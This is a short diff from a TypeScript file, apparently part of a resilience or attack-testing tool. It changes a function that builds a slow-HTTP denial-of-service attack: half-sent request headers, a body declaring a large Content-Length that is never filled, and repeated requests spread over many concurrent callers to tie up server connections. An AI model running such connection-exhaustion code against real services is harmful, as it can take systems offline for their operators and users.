@@ -108,7 +108,7 @@ function halfDone({ hostile, callers }: HostileSettings): Attack {
   const halfHeader = `POST /v1/customers HTTP/1.1\r\n${head}`
   const halfBody = `${halfHeader}Content-Length: 900000\r\n\r\n{"Name":"`
   // More than a connection takes in, of what costs nothing to make: it is the waiting that is measured.
-  const unread = httpGet('/docs/redoc.js', hostile.authorization).repeat(16)
+  const unread = httpGet('/openapi.json', hostile.authorization).repeat(16)
   return again(callers * 4, (stop, caller) => stays(hostile, [halfHeader, halfBody, unread][caller % 3] ?? '')(stop))
 }
 
